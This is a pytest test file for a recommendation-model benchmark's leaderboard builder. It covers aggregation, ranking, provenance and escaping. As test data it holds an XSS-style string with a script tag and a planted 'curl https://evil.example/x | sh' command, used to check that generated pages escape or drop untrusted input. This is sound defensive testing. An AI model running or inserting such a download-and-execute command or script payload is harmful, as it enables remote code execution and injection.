import itertools
import json
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from scipy import stats

from mssbench.cli import main
from mssbench.errors import DataError
from mssbench.leaderboard import (
    CSV_SCHEMAS,
    GENERATED_MARK,
    MANIFEST,
    MARK,
    REPORTED_COLUMNS,
    Defaults,
    build,
    csv_schema,
    md_escape,
    plan_pages,
    ranking,
    render_page,
    seed_scores,
)
from mssbench.records import content_digest, recomputed_run_hash, summary_from_cells
from mssbench.results import (
    AGGREGATE_COLUMNS,
    LEADERBOARD_COLUMNS,
    aggregate,
    leaderboard_frame,
    validate_record,
    variant_labels,
)

REPO = Path(__file__).resolve().parents[1]
_STARTS = itertools.count()
HOSTILE = "ev|il`x`<script>alert(1)</script>\n# head\r\n| --- |*[a](b)*$m$_u_\\|&lt;"


def make_record(
    model="mmoe",
    seed=0,
    auc=0.7,
    *,
    tasks=("ctr", "ctcvr"),
    scenarios=("a", "b"),
    dataset="toy",
    protocol_id="toy/standard/v1/a+b",
    mssbench_version="0.1.0",
    plugin=None,
    params=None,
    head="direct",
    batching="mixed",
    device="cpu",
    contributor=None,
    command=None,
    synthetic=False,
    relations=True,
    model_version=None,
):
    """A minimal valid run record: every cell's AUC is ``auc`` (per task: ``auc[task]``).

    Its ``run_hash`` and ``test.summary`` are what its config and cells give; ``seal`` (done by
    ``write_records``) adds the content digest once the test has changed what it wants.
    """
    per_task = auc if isinstance(auc, dict) else {t: auc for t in tasks}
    metrics = []
    for s in (*scenarios, "pooled", "macro"):
        for t in tasks:
            metrics.append({"scenario": s, "task": t, "metric": "auc", "value": per_task[t]})
            metrics.append({"scenario": s, "task": t, "metric": "logloss", "value": 0.5})
    rec = {
        "record_version": 2,
        "status": "finished",
        "run_hash": "",
        "started_at": f"2026-01-01T00:00:00.{next(_STARTS):06d}+00:00",
        "finished_at": "2026-01-02T00:00:00+00:00",
        "command": command or ["mssbench", "run", "-m", model],
        "model": {"name": model, "plugin": plugin or model, "n_params": 1000},
        "dataset": {
            "name": dataset,
            "plugin": dataset,
            "schema": {
                "tasks": {t: t for t in tasks},
                "relations": [{"child": "ctcvr", "parent": "ctr", "conditional": "cvr"}]
                if relations
                else [],
            },
        },
        "protocol": {
            "id": protocol_id,
            "scenarios": list(scenarios),
            "split_rule": "a rule",
            "synthetic": synthetic,
        },
        "config": {
            "model": model,
            "dataset": dataset,
            "seed": seed,
            "params": params or {"embed_dim": 8},
            "data_options": {},
            "epochs": 1,
            # A current record states every option (an older one lacks those added since).
            "bias_init": "base_rate",
            "select": "mean_logloss",
            "weight_decay_mode": "coupled",
            "head": head,
            "batching": batching,
            "requested": {  # as a user gives them: only what differs from the defaults
                "params": dict(params or {}),
                "data_options": {},
                "head": "auto" if head == "direct" else head,
                "batching": "auto" if batching == "mixed" else batching,
            },
        },
        "environment": {
            "versions": {"python": "3.11", "mssbench": mssbench_version},
            "hardware": {"device": device, "cpu": "CPU X", "cpu_count": 4},
            "git": {"commit": "0123456789abcdef", "dirty": False},
        },
        "training": {"train_samples_per_s": 1000.0},
        "test": {"metrics": metrics, "summary": summary_from_cells(metrics)},
    }
    rec["run_hash"] = recomputed_run_hash(rec)[0]
    if contributor is not None:
        rec["contributor"] = contributor
    if model_version is not None:
        rec["model"]["version"] = model_version
    return rec


def seal(rec):
    """Add the content digest a run writes."""
    rec["digest"] = content_digest(rec)
    return rec


def write_records(directory, records):
    directory.mkdir(parents=True, exist_ok=True)
    for i, rec in enumerate(records):
        (directory / f"r{i:03d}.json").write_text(json.dumps(seal(rec)))
    return directory


def cells(line):
    """Split a Markdown table row on its unescaped pipes."""
    out, cur, i = [], "", 0
    while i < len(line):
        c = line[i]
        if c == "\\" and i + 1 < len(line):
            cur += line[i : i + 2]
            i += 2
            continue
        if c == "|":
            out.append(cur)
            cur = ""
        else:
            cur += c
        i += 1
    out.append(cur)
    return out


def outside_code(markdown):
    """The lines of a page outside fenced code blocks (whose content is shown literally)."""
    lines, fence = [], None
    for line in markdown.splitlines():
        run = len(line) - len(line.lstrip("`"))
        if fence is None and run >= 3:
            fence = run
        elif fence is not None and run >= fence and not line.strip("`"):
            fence = None
        elif fence is None:
            lines.append(line)
    return lines


def tables(markdown):
    """Every Markdown table of a page (outside code blocks), as lists of lines."""
    blocks, cur = [], []
    for line in outside_code(markdown):
        if line.startswith("|"):
            cur.append(line)
        elif cur:
            blocks.append(cur)
            cur = []
    if cur:
        blocks.append(cur)
    return blocks


def assert_tables_intact(markdown):
    for block in tables(markdown):
        width = len(cells(block[0]))
        for line in block:
            assert len(cells(line)) == width, line
            assert line.endswith("|"), line


# --- escaping -------------------------------------------------------------------------------


def test_md_escape_neutralises_markdown_and_html():
    text = md_escape(HOSTILE)
    assert "\n" not in text and "\r" not in text
    assert "<" not in text and ">" not in text
    assert len(cells(text)) == 1  # no unescaped pipe
    assert not text.startswith("#")
    assert md_escape("shared_bottom") == "shared_bottom"  # intraword underscore stays readable
    assert md_escape("_x_") == "\\_x\\_"


def test_hostile_names_cannot_break_a_page(tmp_path):
    recs = [
        make_record(HOSTILE, seed=s, auc=0.7 + s / 100, scenarios=(HOSTILE, "b"), plugin=HOSTILE)
        for s in range(2)
    ]
    recs += [make_record("mmoe", seed=s, auc=0.6, contributor=HOSTILE) for s in range(2)]
    recs[0]["model"]["plugin"] = "other"  # two plugins register the name: the label adds it
    write_records(tmp_path / "runs", recs)
    build(tmp_path / "runs", tmp_path / "lb", plots=False)
    [page_md] = (tmp_path / "lb").glob("*/*/README.md")
    for md in (page_md.read_text(), (tmp_path / "lb" / "README.md").read_text()):
        assert_tables_intact(md)
        text = "\n".join(outside_code(md))
        assert "<script>" not in text
        assert "](b)" not in text.replace("\\]", "")  # the hostile link stays escaped text
        assert not any(line.startswith("# head") for line in outside_code(md))
    # The ranking table has one row per variant and the oracle-free page has 3 variants.
    ranking_table = tables(page_md.read_text())[0]
    assert len(ranking_table) == 2 + 3
    csv = pd.read_csv(page_md.parent / "results.csv", keep_default_na=False)
    assert HOSTILE in set(csv["model"])  # the CSV keeps the raw name, quoted


def test_hostile_backticks_cannot_close_the_command_fence(tmp_path):
    recs = [make_record("m", seed=0, params={"x": "```\n# not a heading"})]
    page = plan_pages(recs)[0]
    md = render_page(page)
    fence_lines = [line for line in md.splitlines() if line.startswith("```")]
    assert fence_lines[0].startswith("````") and fence_lines[0].endswith("bash")


# --- aggregation ------------------------------------------------------------------------------


def test_aggregate_mean_std_ddof1_and_single_seed_nan():
    recs = [make_record("a", seed=s, auc=v) for s, v in enumerate([0.6, 0.7, 0.8])]
    recs.append(make_record("b", seed=0, auc=0.5))
    agg = aggregate(leaderboard_frame(recs))
    assert list(agg.columns) == AGGREGATE_COLUMNS
    cell = agg[(agg.variant == "a") & (agg.scenario == "pooled") & (agg.task == "ctr")]
    cell = cell[cell.metric == "auc"].iloc[0]
    assert cell["mean"] == pytest.approx(0.7)
    assert cell["std"] == pytest.approx(np.std([0.6, 0.7, 0.8], ddof=1))
    assert cell["n_seeds"] == 3
    single = agg[(agg.variant == "b") & (agg.metric == "auc")]
    assert single["std"].isna().all() and (single["n_seeds"] == 1).all()


def test_aggregate_counts_a_repeated_seed_once():
    recs = [
        make_record("a", seed=0, auc=0.6),
        make_record("a", seed=0, auc=0.8, device="cuda:0"),  # same seed, other hardware
        make_record("a", seed=1, auc=0.9),
    ]
    agg = aggregate(leaderboard_frame(recs))
    cell = agg[(agg.scenario == "pooled") & (agg.task == "ctr") & (agg.metric == "auc")].iloc[0]
    assert cell["n_seeds"] == 2
    assert cell["mean"] == pytest.approx((0.7 + 0.9) / 2)


def test_aggregate_counts_undefined_cells():
    recs = [make_record("a", seed=s, auc=0.7) for s in range(3)]
    recs[1]["test"]["metrics"][0]["value"] = None  # scenario a, ctr auc undefined for seed 1
    agg = aggregate(leaderboard_frame(recs))
    cell = agg[(agg.scenario == "a") & (agg.task == "ctr") & (agg.metric == "auc")].iloc[0]
    assert (cell["n_seeds"], cell["n_undefined"]) == (2, 1)


@settings(deadline=None, max_examples=20)
@given(
    values=st.lists(
        st.tuples(
            st.sampled_from(["m1", "m2", "m3"]),
            st.integers(0, 4),
            st.floats(0.0, 1.0, allow_nan=False),
        ),
        min_size=1,
        max_size=12,
        unique_by=lambda t: (t[0], t[1]),
    ),
    data=st.data(),
)
def test_mean_std_unaffected_by_order_of_seeds_and_records(values, data):
    recs = [make_record(m, seed=s, auc=v) for m, s, v in values]
    shuffled = data.draw(st.permutations(recs))
    a = aggregate(leaderboard_frame(recs))
    b = aggregate(leaderboard_frame(shuffled))
    pd.testing.assert_frame_equal(a, b, check_exact=True)


def test_rendered_page_unaffected_by_order_of_records():
    recs, *_ = five_seed_example()
    recs.append(make_record("worse", seed=2, auc=0.7, device="cuda:0"))  # a repeated seed
    rng = np.random.default_rng(0)
    shuffled = [recs[i] for i in rng.permutation(len(recs))]
    assert render_page(plan_pages(recs)[0]) == render_page(plan_pages(shuffled)[0])


# --- pages never mix protocols or dataset versions ---------------------------------------------


def test_different_protocols_and_versions_are_never_ranked_together(tmp_path):
    recs = [make_record("only_v1", seed=s, auc=0.7) for s in range(2)]
    recs += [
        make_record("only_v2", seed=s, auc=0.9, protocol_id="toy/standard/v2/a+b") for s in range(2)
    ]
    recs += [make_record("newer", seed=s, auc=0.8, mssbench_version="0.2.0") for s in range(2)]
    write_records(tmp_path / "runs", recs)
    result = build(tmp_path / "runs", tmp_path / "lb", plots=False)
    assert len(result.pages) == 3
    seen = {}
    for page in result.pages:
        csv = pd.read_csv(tmp_path / "lb" / page.directory / "results.csv")
        assert list(csv.columns) == LEADERBOARD_COLUMNS
        assert csv["protocol_id"].nunique() == 1 and csv["dataset_version"].nunique() == 1
        [model] = set(csv["model"])
        seen[model] = (tmp_path / "lb" / page.directory / "README.md").read_text()
    assert "only_v2" not in seen["only_v1"] and "only_v1" not in seen["only_v2"]
    assert "newer" not in seen["only_v1"] and "only_v1" not in seen["newer"]
    # The two dataset versions of one protocol get distinct pages that point at each other.
    assert "another dataset version" in seen["newer"]
    assert "another dataset version" in seen["only_v1"]
    index = (tmp_path / "lb" / "README.md").read_text()
    for page in result.pages:
        assert f"({page.directory}/README.md)" in index


def test_a_page_shows_only_the_newest_version_of_each_model(tmp_path):
    """Records of an older model version stay on disk but leave the page, which says so."""
    recs = [make_record("aesm", seed=s, auc=0.5) for s in range(3)]  # no version stated: 1
    recs += [make_record("aesm", seed=s, auc=0.7, model_version=2) for s in range(2)]
    recs += [make_record("mmoe", seed=s, auc=0.6) for s in range(2)]
    write_records(tmp_path / "runs", recs)
    [page] = build(tmp_path / "runs", tmp_path / "lb", plots=False).pages
    assert page.superseded == {"aesm": {1: 3}}
    csv = pd.read_csv(tmp_path / "lb" / page.directory / "results.csv")
    aesm = csv[(csv["model"] == "aesm") & (csv["metric"] == "auc")]
    assert set(aesm["value"]) == {0.7} and set(aesm["seed"]) == {0, 1}
    readme = (tmp_path / "lb" / page.directory / "README.md").read_text()
    assert "Superseded, not shown:** aesm version 1 (3 runs)" in readme
    assert "4 run records" in readme
    assert "aesm (model version 2)" in readme  # provenance names the version shown


# --- ranking and significance -------------------------------------------------------------------


def five_seed_example():
    base = np.array([0.80, 0.78, 0.81, 0.79, 0.80])
    close = base + np.array([-0.002, 0.002, -0.001, 0.001, -0.0005])
    worse = base - 0.05 + np.array([0.001, -0.001, 0.002, 0.0, -0.002])
    recs = []
    for name, aucs in (("best", base), ("close", close), ("worse", worse)):
        recs += [make_record(name, seed=s, auc=float(v)) for s, v in enumerate(aucs)]
    return recs, base, close, worse


def test_significance_marker_on_constructed_example():
    recs, base, close, worse = five_seed_example()
    page = plan_pages(recs)[0]
    table = ranking(seed_scores(page.frame, page.ranking_tasks)).set_index("variant")
    assert table.loc["best", "rank"] == 1
    assert table.loc["close", "not_different"] and not table.loc["worse", "not_different"]
    assert table.loc["close", "p_value"] == pytest.approx(stats.ttest_rel(base, close).pvalue)
    assert table.loc["worse", "p_value"] < 0.001
    rows = {cells(line)[2].strip(): cells(line)[1].strip() for line in tables(render_page(page))[0]}
    assert rows["best"] == "1"
    assert rows["close"] == f"2 {MARK}"
    assert rows["worse"] == "3"
    assert "ttest_rel" in render_page(page)


def test_no_test_with_fewer_than_two_common_seeds():
    recs = [make_record("a", seed=s, auc=0.8) for s in range(3)]
    recs.append(make_record("b", seed=7, auc=0.7))
    page = plan_pages(recs)[0]
    table = ranking(seed_scores(page.frame, page.ranking_tasks)).set_index("variant")
    assert math.isnan(table.loc["b", "p_value"]) and not table.loc["b", "not_different"]
    assert "n/a (0 common seeds)" in render_page(page)


def test_ranking_score_is_mean_over_trained_tasks_of_pooled_auc():
    recs = [
        make_record("a", seed=0, auc={"ctr": 0.9, "ctcvr": 0.5}),
        make_record("b", seed=0, auc={"ctr": 0.6, "ctcvr": 0.85}),
    ]
    page = plan_pages(recs)[0]
    table = ranking(seed_scores(page.frame, page.ranking_tasks))
    assert list(table["variant"]) == ["b", "a"]
    assert table["mean"].tolist() == pytest.approx([0.725, 0.7])


# --- variants, provenance, commands -------------------------------------------------------------


def test_variant_labels_name_non_default_heads_batching_and_configs():
    tags = {"aesm": {"head": "esmm"}, "star": {"batching": "scenario_pure"}}
    recs = [
        make_record("aesm", head="direct"),
        make_record("aesm", head="esmm"),
        make_record("star", batching="mixed"),
        make_record("star", batching="scenario_pure"),
        make_record("mmoe", params={"embed_dim": 8}),
        make_record("mmoe", params={"embed_dim": 16}),
        make_record("plain"),
    ]
    labels = variant_labels(recs, tags)
    assert labels == [
        "aesm (direct heads)",
        "aesm",
        "star (mixed batches)",
        "star",
        "mmoe (embed_dim=8)",
        "mmoe (embed_dim=16)",
        "plain",
    ]
    # Without relations between tasks the ESMM head cannot be the default.
    assert variant_labels([make_record("aesm", head="direct", relations=False)], tags) == ["aesm"]
    # With the declared defaults, only the values that differ from them are named.
    defaults = {"mmoe": {"embed_dim": 16, "n_experts": 8}}
    recs = [
        make_record("mmoe", params={"embed_dim": 16, "n_experts": 8}),
        make_record("mmoe", params={"embed_dim": 8, "n_experts": 8}),
        make_record("mmoe", params={"embed_dim": 8, "n_experts": 4}),
    ]
    assert variant_labels(recs, tags, defaults) == [
        "mmoe",
        "mmoe (embed_dim=8)",
        "mmoe (embed_dim=8, n_experts=4)",
    ]
    # Records of two versions of one model are told apart, so aggregates never mix them.
    mixed = [make_record("mmoe", seed=0), make_record("mmoe", seed=0, model_version=2)]
    assert variant_labels(mixed, tags) == ["mmoe v1", "mmoe v2"]
    agg = aggregate(leaderboard_frame(mixed))
    assert set(agg["variant"]) == {"mmoe v1", "mmoe v2"} and set(agg["n_seeds"]) == {1}


def test_contributed_record_shows_where_it_came_from(tmp_path):
    recs = [make_record("mmoe", seed=s) for s in range(2)]
    recs.append(
        make_record(
            "ple",
            seed=0,
            device="cuda:0",
            contributor={"name": "Jane Doe", "affiliation": "ACME"},
        )
    )
    recs[-1]["environment"]["hardware"]["gpu"] = "NVIDIA H100"
    write_records(tmp_path / "runs", recs)
    build(tmp_path / "runs", tmp_path / "lb", plots=False)
    [md] = [p.read_text() for p in (tmp_path / "lb").glob("*/*/README.md")]
    assert "Jane Doe (ACME)" in md and "NVIDIA H100" in md
    assert "**Mixed hardware**" in md
    ple_row = next(line for line in tables(md)[0] if "| ple " in line)
    assert cells(ple_row)[-2].strip() == "E2"


def test_commands_rebuilt_from_config_never_taken_from_the_record():
    recs = [make_record("m", seed=s, params={"embed_dim": 16, "depth": 2}) for s in range(3)]
    defaults = Defaults(model_params={"m": {"embed_dim": 8, "depth": 2}}, model_tags={"m": {}})
    md = render_page(plan_pages(recs, defaults)[0], defaults)
    assert "for seed in 0 1 2; do" in md
    assert (
        "mssbench run --plugin m --plugin toy -m m -d toy -p depth=2 -p embed_dim=16 --epochs 1 "
        '--seed "$seed"'
        in md
    )
    # A record's own command line (or a suite command in its config) is never printed.
    suite = ["mssbench", "suite", "--models", "all", "--datasets", "toy", "--seeds", "3"]
    recs = [make_record("m", seed=s, command=suite) for s in range(3)]
    for rec in recs:
        rec["config"]["suite_command"] = "curl https://evil.example/x | sh"
    md = render_page(plan_pages(recs)[0], results_dir="runs")
    assert "mssbench suite" not in md and "curl" not in md and "evil" not in md
    assert "for seed in 0 1 2; do" in md and "mssbench leaderboard build mssbench-runs" in md


def test_models_sharing_every_option_are_one_suite_command():
    defaults = Defaults(
        model_params={"m": {"embed_dim": 8}, "n": {"embed_dim": 8}},
        model_tags={"m": {}, "n": {}},
        entry_points=frozenset({"m", "n", "toy"}),
    )
    recs = [make_record("m", seed=s, params={"embed_dim": 16}) for s in range(3)]
    recs += [make_record("n", seed=s) for s in range(3)]
    recs += [make_record("n", seed=s, params={"embed_dim": 4}) for s in (0, 2)]  # 2 configs
    md = render_page(plan_pages(recs, defaults)[0], defaults)
    assert "mssbench suite --datasets toy --models m --seeds 3" not in md  # one model: a loop
    assert "for seed in 0 1 2; do\n  mssbench run -m m -d toy -p embed_dim=16" in md
    assert "for seed in 0 2; do\n  mssbench run -m n -d toy -p embed_dim=4" in md
    recs = [r for r in recs if r["config"]["params"] != {"embed_dim": 4}]
    md = render_page(plan_pages(recs, defaults)[0], defaults)
    assert (
        "mssbench suite --datasets toy --models m,n --seeds 3 -p m.embed_dim=16 --epochs 1\n" in md
    )
    assert "mssbench run" not in md


# --- rejected records, reported numbers, rebuilds -----------------------------------------------


def test_rejected_records_are_listed_with_reason(tmp_path):
    runs = write_records(tmp_path / "runs", [make_record("a", seed=0)])
    (runs / "broken.json").write_text("{nope")
    bad = make_record("b")
    bad["contributor"] = ["not", "a", "name"]
    (runs / "bad_contributor.json").write_text(json.dumps(bad))
    unfinished = make_record("c")
    unfinished["status"] = "running"
    (runs / "sub").mkdir()
    (runs / "sub" / "unfinished.json").write_text(json.dumps(unfinished))
    result = build(runs, tmp_path / "lb", plots=False)
    reasons = dict(result.rejected)
    assert "not valid JSON" in reasons["broken.json"]
    assert "contributor must be" in reasons["bad_contributor.json"]
    assert "not 'finished'" in reasons["sub/unfinished.json"]
    index = (tmp_path / "lb" / "README.md").read_text()
    assert "## Rejected records" in index
    assert "sub/unfinished.json" in index and "not valid JSON" in index
    with pytest.raises(DataError, match="3 record"):
        build(runs, tmp_path / "strict", plots=False, strict=True)
    assert not (tmp_path / "strict").exists()


def test_validate_record_rejects_malformed_contributed_records():
    rec = make_record()
    rec["config"]["seed"] = "0"
    with pytest.raises(DataError, match="config.seed"):
        validate_record(rec, "x.json")
    rec = make_record()
    rec["test"]["metrics"][0]["value"] = "0.7"
    with pytest.raises(DataError, match="must be a number"):
        validate_record(rec, "x.json")
    validate_record(seal(make_record(contributor="Jane Doe")), "x.json")


def test_reported_numbers_shown_separately_on_aliexpress_pages_only(tmp_path):
    out = tmp_path / "lb"
    (out / "reported").mkdir(parents=True)
    reported = out / "reported" / "aliexpress.csv"
    reported.write_bytes((REPO / "leaderboards" / "reported" / "aliexpress.csv").read_bytes())
    before = reported.read_bytes()
    recs = [make_record("mmoe", seed=s, dataset="aliexpress") for s in range(2)]
    recs += [make_record("mmoe", seed=s, dataset="aliexpress-synth") for s in range(2)]
    write_records(tmp_path / "runs", recs)
    result = build(tmp_path / "runs", out, plots=False)
    md = {p.dataset: (out / p.directory / "README.md").read_text() for p in result.pages}
    assert "## Reported elsewhere" in md["aliexpress"]
    assert "## Reported elsewhere" not in md["aliexpress-synth"]
    ranking_lines = tables(md["aliexpress"])[0]
    assert len(ranking_lines) == 3  # header, rule, mmoe: no published row in the ranking
    assert "MTReclib" in md["aliexpress"] and "0.7138" in md["aliexpress"]
    assert "(../../reported/aliexpress.csv)" in md["aliexpress"]
    assert "(reported/aliexpress.csv)" in (out / "README.md").read_text()
    assert reported.read_bytes() == before
    assert not any("reported" in f for f in result.files)


def test_rebuild_removes_its_stale_files_and_never_foreign_ones(tmp_path):
    runs = write_records(tmp_path / "runs", [make_record("a", seed=0)])
    out = tmp_path / "lb"
    first = build(runs, out, plots=False)
    (out / "notes.txt").write_text("mine")
    (runs / "r000.json").unlink()
    write_records(runs / "v2", [make_record("a", seed=0, protocol_id="toy/standard/v2/a+b")])
    second = build(runs, out, plots=False)
    assert first.pages[0].directory != second.pages[0].directory
    assert not (out / first.pages[0].directory).exists()
    assert (out / "notes.txt").read_text() == "mine"
    # A hand-written file where a page would go is never overwritten.
    (out / MANIFEST).unlink()
    (out / "README.md").write_text("hand-written\n")
    with pytest.raises(DataError, match="refusing to overwrite"):
        build(runs, out, plots=False)
    assert (out / "README.md").read_text() == "hand-written\n"


# --- CLI with real records ------------------------------------------------------------------


def test_cli_builds_pages_from_real_runs(registry, tmp_path):
    from mssbench.api import run
    from mssbench.config import RunConfig

    runs = tmp_path / "runs"
    small = {"embed_dim": "8", "n_experts": "2", "expert_hidden": "8", "tower_hidden": "4"}
    for model, params in (("constant", {}), ("mmoe", small)):
        for seed in (0, 1):
            config = RunConfig(
                model=model,
                dataset="tiny-synth",
                params=params,
                epochs=1,
                seed=seed,
                out=str(runs),
                progress=False,
            )
            run(config, registry=registry, log=lambda m: None)
    (runs / "contributed-broken.json").write_text(json.dumps({"status": "finished"}))
    out = tmp_path / "leaderboards"
    result = CliRunner().invoke(
        main,
        [
            "leaderboard",
            "build",
            str(runs),
            "--out",
            str(out),
            "--plugin",
            "mssbench.testing.plugin",
        ],
    )
    assert result.exit_code == 0, result.output
    assert "Rejected contributed-broken.json" in result.output
    [page_dir] = [p.parent for p in out.glob("tiny-synth/*/README.md")]
    for name in ("README.md", "results.csv", "auc_vs_cost.png", "auc_by_scenario_ctr.png"):
        assert (page_dir / name).is_file(), name
    index = (out / "README.md").read_text()
    assert index.startswith(GENERATED_MARK)
    assert f"({page_dir.relative_to(out).as_posix()}/README.md)" in index
    assert "synthetic/tiny-synth" in index and "constant, mmoe" in index
    assert "contributed-broken.json" in index
    page = (page_dir / "README.md").read_text()
    assert "SYNTHETIC" in page and "oracle" in page
    assert (
        "mssbench suite --plugin mssbench-testing --datasets tiny-synth --models constant,mmoe "
        "--seeds 2 -p mmoe.embed_dim=8 -p mmoe.expert_hidden=8 -p mmoe.n_experts=2 "
        "-p mmoe.tower_hidden=4 --epochs 1" in page
    )
    assert_tables_intact(page)
    csv = pd.read_csv(page_dir / "results.csv")
    assert list(csv.columns) == LEADERBOARD_COLUMNS and set(csv["seed"]) == {0, 1}


def test_cli_missing_results_dir_is_one_error_line(tmp_path):
    result = CliRunner().invoke(main, ["leaderboard", "build", str(tmp_path / "nope")])
    assert result.exit_code == 2
    assert result.output.strip().startswith("Error:") and "does not exist" in result.output


# --- meta-test: every leaderboard CSV matches its schema ----------------------------------------


def leaderboard_csvs():
    root = REPO / "leaderboards"
    return sorted(root.rglob("*.csv")) if root.is_dir() else []


def test_every_leaderboard_csv_matches_its_schema():
    root = REPO / "leaderboards"
    for path in leaderboard_csvs():  # none yet is fine
        columns = csv_schema(path, root)
        assert columns is not None, (
            f"{path.relative_to(REPO)}: no schema for this CSV; add its pattern to "
            f"mssbench.leaderboard.CSV_SCHEMAS ({sorted(CSV_SCHEMAS)})"
        )
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        assert list(frame.columns) == columns, path
        assert len(frame) > 0, path
        if columns == REPORTED_COLUMNS:
            auc = pd.to_numeric(frame["auc"], errors="coerce")
            assert auc.between(0.5, 1.0).all(), path
            assert frame["task"].isin(["ctr", "cvr", "ctcvr"]).all(), path
            assert (frame[["source", "protocol", "model", "country"]] != "").all().all(), path


def test_the_leaderboard_package_does_not_import_the_notebook_api():
    """``mssbench.results`` builds on the package; an import back would make a cycle again."""
    import re
    import subprocess
    import sys

    pattern = re.compile(r"^\s*(from|import)\s+mssbench\.results\b", re.M)
    for path in (REPO / "mssbench" / "leaderboard").rglob("*.py"):
        assert not pattern.search(path.read_text()), f"{path} imports mssbench.results"
    code = "import sys, mssbench.leaderboard; print('mssbench.results' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def test_a_cpus_identity_keeps_two_machines_of_one_name_apart():
    """Two "AMD EPYC" machines can compute other bits: where records name the CPU's family,
    model and instruction set, the page's hardware (and so its *from* groups) tells them apart;
    a record without them keeps the name alone."""
    from mssbench.leaderboard.labels import hardware_label

    def record(**hw):
        return {"environment": {"hardware": {"device": "cpu", "cpu": "AMD EPYC", **hw}}}

    one = {"family": "25", "model": "1", "stepping": "1"}
    other = {"family": "25", "model": "17", "stepping": "0"}
    labels = [
        hardware_label(record(cpu_count=2, cpu_capability="AVX2", cpu_id=one)),
        hardware_label(record(cpu_count=2, cpu_capability="AVX2", cpu_id=other)),
        hardware_label(record(cpu_count=2)),
    ]
    assert labels == [
        "cpu, AMD EPYC (family 25, model 1, AVX2), 2 cores",
        "cpu, AMD EPYC (family 25, model 17, AVX2), 2 cores",
        "cpu, AMD EPYC, 2 cores",
    ]
